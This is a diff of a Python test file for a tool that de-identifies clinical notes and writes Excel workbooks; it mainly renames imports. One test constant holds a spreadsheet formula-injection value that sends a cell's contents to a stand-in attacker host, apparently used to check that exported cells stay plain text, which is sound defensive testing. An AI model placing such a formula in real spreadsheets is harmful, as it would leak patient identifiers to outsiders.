@@ -10,12 +10,12 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from core.io.columns import plan_columns
-from core.io.writers import (
+from casenotes.io.columns import plan_columns
+from casenotes.io.writers import (
     ABOUT_SHEET, LINE_POINTS, MAX_ROW_POINTS, text_width, write_results_workbook, write_review_workbook,
 )
-from core.phi.replace import Replacement
-from core.steps import NoteRecord, TextCell
+from casenotes.phi.replace import Replacement
+from casenotes.steps import NoteRecord, TextCell
 
 KEY = "PT-FDN7TAEEB6"  # 13 characters, capitals: what used to be cut to "PT-FDN7TAE"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"MRN")'
@@ -203,8 +203,8 @@ def test_review_workbook_key_map_header_and_highlighted_note_stay_text(tmp_path)
 
 
 def test_the_pipeline_writes_the_mode_and_evaluate_still_reads_the_workbook(tmp_path):
-    from core.evaluate import evaluate
-    from core.pipeline import RunOptions, run
+    from casenotes.evaluate import evaluate
+    from casenotes.pipeline import RunOptions, run
 
     notes = ["Seen by Dr. Quortney on the ward, stable, BP 120/80. Plan to continue lasix 40 mg daily.",
              "Pt comfortable on 2L NC, sats 96%. Continue current plan and monitor for 2 days."]
